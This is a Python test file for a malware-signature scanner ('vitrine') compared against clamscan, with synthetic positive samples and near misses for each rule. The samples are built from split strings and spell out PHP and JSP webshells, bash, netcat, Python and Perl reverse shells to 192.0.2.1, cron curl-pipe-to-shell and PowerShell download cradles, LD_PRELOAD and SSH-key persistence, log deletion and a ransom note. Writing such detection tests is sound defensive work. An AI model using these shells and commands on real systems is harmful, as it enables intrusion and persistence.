"""The shipped rules: each finds its own sample and lets its near misses go, in vitrine and in clamscan; none
finds anything in what is installed.

Samples are put together from pieces when the tests run, so that no file of this tree contains what the
rules look for; none of them does anything. Those of most rules are in rule_samples.py; here are those of the
first rules, with near misses of their own."""
import os
import pathlib
import re
import shutil
import subprocess

import pytest

from rule_samples import SAMPLES

ROOT = pathlib.Path(__file__).resolve().parents[2]
BUILD = pathlib.Path(os.environ.get("VITRINE_BUILD", ROOT / "build"))
RULES = ROOT / "signatures"
# Documentation that shows what rules look for, and rules of a web firewall that quote attacks.
DOCUMENTS = ["bash-doc", "debian-reference-en", "modsecurity-crs", "perl-doc", "python3.11-doc"]
# Installed to attack, on purpose: what they bring may be found.
ATTACK_TOOLS = "/usr/share/(weevely|metasploit-framework|webshells|exploitdb|laudanum)"


def text(*pieces):
    return "".join(pieces).encode()


EICAR = text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!", "$H+H*")
PHP = "<?" + "php "
GIF = "GIF" + "89a" + "\1\0\1\0"
CALL = "= $" + "_POST['x'];"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(100)
DUP = "os.dup" + "2(s.fileno(), %d)\n"
OUT = 'open(%s, ">' + '&S");'
SHELL = "/bin/" + "sh"
NOTE = "All your files have been " + "encrypted. Visit http://example%s to pay in %s. %s"
MACRO = 'Sub Auto' + 'Open()\nSet s = CreateObject("WScript.%s")\ns.Run "%s -c calc"\nEnd Sub\n'
PSH = "power" + "shell %s %s -c (New-Object Net.WebClient).%s('http://example.com/a')"
CRON = "0 3 * * * root %s http://example.com/a %s\n"
TUNE = ["setenforce" + " 0", "ulimit -n " + "65535", "chattr -" + "iua /etc/ld.so.preload",
        "rm -rf /var/" + "log/syslog"]

# rule: samples that it must find
POSITIVE = {
    "Test.EICAR-1": [EICAR, EICAR + b" \r\n\x1a", EICAR + b" " * 60],
    "Webshell.PhpRequest-1": [
        text(PHP, "eval", "($", "_POST['c']);"), text("<", "?= @sys", "tem(@$", "_GET[0]) ?>"),
        text("<h1>x</h1>", PHP, "ASSERT", "(stripslashes($", "_REQUEST['a']));")],
    "Webshell.PhpDecoded-1": [
        text(PHP, "eval", "(gzinf", "late(base64", "_decode('AAAA')));"),
        text(PHP, "eval", "(gzuncom", "press(base64", "_decode($a)));")],
    "Webshell.PhpInPicture-1": [text(GIF, PHP, "$a ", CALL), PNG + text(PHP, "$a ", CALL),
                                b"\xff\xd8\xff\xe0" + text(PHP, "$a ", CALL)],
    "Webshell.JspRuntimeExec-1": [
        text('<%@page import="java.io.*"%><% Runtime.get', "Runtime().ex",
             'ec(request.getPar', 'ameter("c")); %>')],
    "Backdoor.BashReverse-1": [
        text("#!/bin/bash\nbash", " -i >& /dev/", "tcp/192.0.2.1/4444 0>", "&1\n"),
        text("[Service]\nExec", "Start=/bin/bash -c 'sh", " -i &>/dev/", "udp/192.0.2.1/53 0>", "&1'\n"),
        text("* * * * * root bash", " -i >& /dev/", "tcp/192.0.2.1/4444 0>", "&1\n")],
    "Backdoor.NetcatPipe-1": [
        text("rm /tmp/f;mkf", "ifo /tmp/f;cat /tmp/f|", SHELL, " -i 2>", "&1|nc 192.0.2.1 4444 >/tmp/f"),
        text("mkf", "ifo p; cat p | /bin/ba", "sh -i 2>", "&1 | nc 192.0.2.1 4444 > p")],
    "Backdoor.PythonReverse-1": [
        text("import socket,os,pty\ns=socket.", "socket()\ns.con", "nect(('192.0.2.1',4444))\n",
             *[DUP % i for i in range(3)], "pty.", "spawn('sh')\n")],
    "Backdoor.PerlReverse-1": [
        text("use Socket;", OUT % "STDIN", OUT % "STDOUT", 'exec("', SHELL, ' -i");')],
    "Persistence.LdPreload-1": [
        text("export LD_PRE", "LOAD=/tmp/", ".x/libc.so\n"),
        text("[Service]\nEnvironment=LD_PRE", "LOAD=/dev/shm/", "a.so.1\n"),
        text('Environment="LD_PRE', "LOAD=/var/tmp/", 'a.so"\n')],
    "Persistence.SshKeyLocked-1": [
        text("#!/bin/sh\necho ssh-", "rsa AAAA0 >> ~/.ssh/authorized_keys\n",
             "chattr ", "+ia /root/.ssh/", "authorized_keys\n")],
    "Downloader.CronPipe-1": [
        text(CRON % ("curl -fsSL", "| s" + "h")), text(CRON % ("wget -q -O-", "|ba" + "sh"))],
    "Dropper.DefenceOff-1": [text("#!/bin/sh\n", "\n".join(TUNE[:3])),
                             text("#!/bin/sh\n", "\n".join(TUNE[1:]))],
    "Miner.Config-1": [
        text('{"donate-', 'level": 1, "pools": [{"url": "stratum+', 'tcp://192.0.2.1:3333", "us', 'er": "4"}]}')],
    "Ransom.Note-1": [text(NOTE % (".oni" + "on", "Bitcoin", "Do not ren" + "ame files.")),
                      text(NOTE % (".oni" + "on", "money", "Use TOR Bro" + "wser. Your PRIVATE K" + "EY waits."))],
    "Macro.AutoShell-1": [text(MACRO % ("Sh" + "ell", "power" + "shell")),
                          text("Private Sub Docu", "ment_Open()\nx = Sh", 'ell("cmd', ' /c calc")\nEnd Sub\n')],
    "Downloader.PowerShell-1": [
        text(PSH % ("-NoP", "-W Hid" + "den", "Download" + "String")),
        (PSH % ("-noprofile", "-WindowStyle Hid" + "den", "Download" + "String")).encode("utf-16le")],
}

# What each rule must let go: one necessary thing is missing.
NEGATIVE = {
    "text about EICAR": EICAR.join([b"See: ", b""]),
    "EICAR with more than 128 bytes": EICAR + b" " * 61,
    "PHP that checks a field": text(PHP, "if (isset($", "_POST['c'])) { show($", "_POST['c']); }"),
    "a text about eval": text("Never write eval", "($", "_POST['c']); in PHP."),
    "PHP that decodes": text(PHP, "$a = gzinf", "late(base64", "_decode($b));"),
    "a picture": text(GIF, "nothing"), "a picture with a tag by chance": text(GIF, PHP, "x"),
    "a text with a reverse shell": text("Try: bash", " -i >& /dev/", "tcp/192.0.2.1/4444 0>", "&1\n"),
    "a script with a port check": text("#!/bin/bash\necho > /dev/", "tcp/127.0.0.1/22 2>", "&1\n"),
    "a pipe through netcat": text("mkf", "ifo p; tar c / > p & nc 192.0.2.1 4444 < p"),
    "a network program": text("import socket,os\ns=socket.", "socket()\ns.con", "nect(('192.0.2.1',1))\n",
                              DUP % 0, DUP % 1, "os.execv('", SHELL, "')\n"),
    "a preload from /usr": text("export LD_PRE", "LOAD=/usr/lib/libjemalloc.so.2\n"),
    "a preload for one command": text("LD_PRE", "LOAD=/tmp/", "trace.so ls\n"),
    "a script that adds a key": text("#!/bin/sh\necho ssh-", "rsa AAAA0 >> ~/.ssh/authorized_keys\n"),
    "an updater": text(CRON % ("curl -o /var/lib/list", "&& reload")),
    "a tuning script": text("#!/bin/sh\n", TUNE[0], "\n", TUNE[1], "\n"),
    "the same tuning twice": text("#!/bin/sh\n", "\n".join(TUNE[:2] * 4)),
    "a list of pools": text('{"url": "stratum+', 'tcp://192.0.2.1:3333", "us', 'er": "4"}'),
    "news about ransomware": text(NOTE % (".com", "Bitcoin", "Use Tor Bro" + "wser.")),
    "a macro": text(MACRO % ("Sh" + "ell", "notepad")), "a macro without Auto": text(MACRO[10:] % ("Shell", "cmd /c")),
    "an administration script": text(PSH % ("-NoP", "-File a.ps1", "Download" + "String")),
}


for _rule, (_samples, _near) in SAMPLES.items():
    assert _rule not in POSITIVE
    POSITIVE[_rule] = _samples
    NEGATIVE.update({f"{_rule} {i}": data for i, data in enumerate(_near)})


def rule_lines():
    """(name, fields, comment above) of each rule."""
    for path in sorted(RULES.glob("*.?[ds]b")):
        above = []
        for line in path.read_text().splitlines():
            if line.startswith("#"):
                above = [] if line == "#" else [*above, line[1:].strip()]
                continue
            name = re.search(r"Vitrine\.[^;:]+", line).group(0)
            yield name[len("Vitrine."):], re.split(";" if ".ldb" in path.name else ":", line), " ".join(above)
            above = []


def rule_names():
    return {name for name, _, _ in rule_lines()}


@pytest.fixture(scope="module")
def samples(tmp_path_factory):
    top = tmp_path_factory.mktemp("samples")
    for name, contents in POSITIVE.items():
        for i, data in enumerate(contents):
            (top / f"{name}.{i}").write_bytes(data)
    for i, data in enumerate(NEGATIVE.values()):
        (top / f"negative.{i}").write_bytes(data)
    return top


def scan(program, top):
    """{file name: names found}, all matches."""
    r = subprocess.run([*program, str(top)], capture_output=True, text=True, timeout=120,
                       stdin=subprocess.DEVNULL)
    assert r.returncode == 1, r.stdout + r.stderr
    found = {p.name: set() for p in top.iterdir()}
    for name, rule in re.findall(r"([^/\n]+): Vitrine\.([\w.]+-\d+)(?:\.UNOFFICIAL)? FOUND", r.stdout):
        found[name].add(rule)
    return found


@pytest.fixture(scope="module", params=["clamscan", "vitrine"])
def program(request):
    if request.param == "vitrine":
        return [str(BUILD / "clamscan")]
    oracle = shutil.which("clamscan")
    if not oracle:
        pytest.skip("clamscan is not installed")
    return [oracle]


@pytest.fixture(scope="module")
def found(program, samples):
    return scan([*program, "-d", str(RULES), "-r", "-z", "--no-summary"], samples)


def finds_nothing(command, timeout):
    """The command's report holds no find. That something was not fully scanned (exit code 2) is not this test's
    matter."""
    r = subprocess.run(command, capture_output=True, text=True, timeout=timeout, errors="replace",
                       stdin=subprocess.DEVNULL)
    assert [line for line in r.stdout.splitlines() if line.endswith(" FOUND")] == []
    assert r.returncode in (0, 2), r.stderr


# ------------------------------------------------------------------------------------ what rules look like
def test_there_are_at_least_100_rules_with_names_of_their_own():
    names = [name for name, _, _ in rule_lines()]
    assert len(names) >= 100
    assert len(names) == len(set(names))


def test_names_follow_the_scheme():
    assert [n for n in rule_names() if not re.fullmatch(r"[A-Z]\w+\.[A-Z]\w+-[1-9]\d*", n)] == []


def test_every_rule_has_a_comment_of_its_own():
    digests = ("Test.EICAR-2", "Test.EICAR-3")  # one short line each
    assert [n for n, _, comment in rule_lines() if len(comment) < 60 and n not in digests] == []
    comments = [comment for _, _, comment in rule_lines()]
    assert len(comments) == len(set(comments))


def test_every_rule_says_where_its_idea_is_published():
    public = r"ATT&CK T\d{4}|CVE-\d{4}-|GTFOBins|ublic |manual|eicar|CERT|CISA"
    digests = ("Test.EICAR-2", "Test.EICAR-3")
    assert [n for n, _, comment in rule_lines() if not re.search(public, comment) and n not in digests] == []


def test_every_rule_has_a_sample():
    digests = {"Test.EICAR-2", "Test.EICAR-3"}  # tried with the first sample of EICAR-1
    assert rule_names() == set(POSITIVE) | digests
    assert [rule for rule, contents in POSITIVE.items() if not contents] == []
    assert [rule for rule, (_, near) in SAMPLES.items() if not near] == []


def satisfied_by(expression, only):
    """Whether the sub-signature `only`, however often it matches, satisfies the expression alone."""
    e = re.sub(r"\([\d|]+\)>\d+,[2-9]", "(99)", expression)  # asks for two different ones
    e = re.sub(r"[><=]\d+(,\d+)?", "", e)
    e = re.sub(r"\d+", lambda m: str(m.group(0) == str(only)), e)
    return eval(e.replace("|", " or ").replace("&", " and "))  # of False, True, brackets and words


def test_no_rule_rests_on_a_single_mark():
    """A sub-signature that suffices alone has at least two parts, which follow each other."""
    lone = []
    for name, fields, _ in rule_lines():
        if "Target:" not in fields[1] or name.startswith("Test."):
            continue  # not a logical signature, or the test file
        lone += [name for i, sub in enumerate(fields[3:])
                 if satisfied_by(fields[2], i) and not re.search(r"\{[-\d]+\}", sub)]
    assert lone == []


# -------------------------------------------------------------------------------------- what rules find
@pytest.mark.parametrize("rule", POSITIVE)
def test_a_rule_finds_its_samples(found, rule):
    for i in range(len(POSITIVE[rule])):
        assert rule in found[f"{rule}.{i}"], f"sample {i}"


@pytest.mark.parametrize("what", NEGATIVE)
def test_a_near_miss_is_let_go(found, what):
    assert not found[f"negative.{list(NEGATIVE).index(what)}"]


def test_digests_name_the_test_file_alone(found):
    assert found["Test.EICAR-1.0"] == {"Test.EICAR-1", "Test.EICAR-2", "Test.EICAR-3"}
    assert found["Test.EICAR-1.1"] == {"Test.EICAR-1"}


# --------------------------------------------------------------------------- what rules do not find
def test_the_rules_do_not_find_this_tree(program):
    finds_nothing([*program, "-d", str(RULES), "-r", "-i", "--no-summary", "--exclude-dir=/[.]git$",
                   "--exclude-dir=/build", "--exclude-dir=/bench/work", str(ROOT)], 300)


@pytest.mark.parametrize("package", DOCUMENTS)
def test_the_rules_do_not_find_documentation(program, package, tmp_path):
    r = subprocess.run(["dpkg", "-L", package], capture_output=True, text=True, stdin=subprocess.DEVNULL)
    files = [f for f in r.stdout.splitlines() if os.path.isfile(f)]
    if r.returncode or not files:
        pytest.skip(f"{package} is not installed")
    names = tmp_path / "files"
    names.write_text("\n".join(files) + "\n")
    finds_nothing([*program, "-d", str(RULES), "-i", "--no-summary", f"--file-list={names}"], 300)


def test_the_rules_find_nothing_in_what_is_installed():
    """The whole of /usr and /etc, by vitrine alone: clamscan would need an hour."""
    finds_nothing([str(BUILD / "clamscan"), "-d", str(RULES), "-r", "-i", "--no-summary",
                   f"--exclude-dir={ATTACK_TOOLS}", "/usr", "/etc"], 1200)
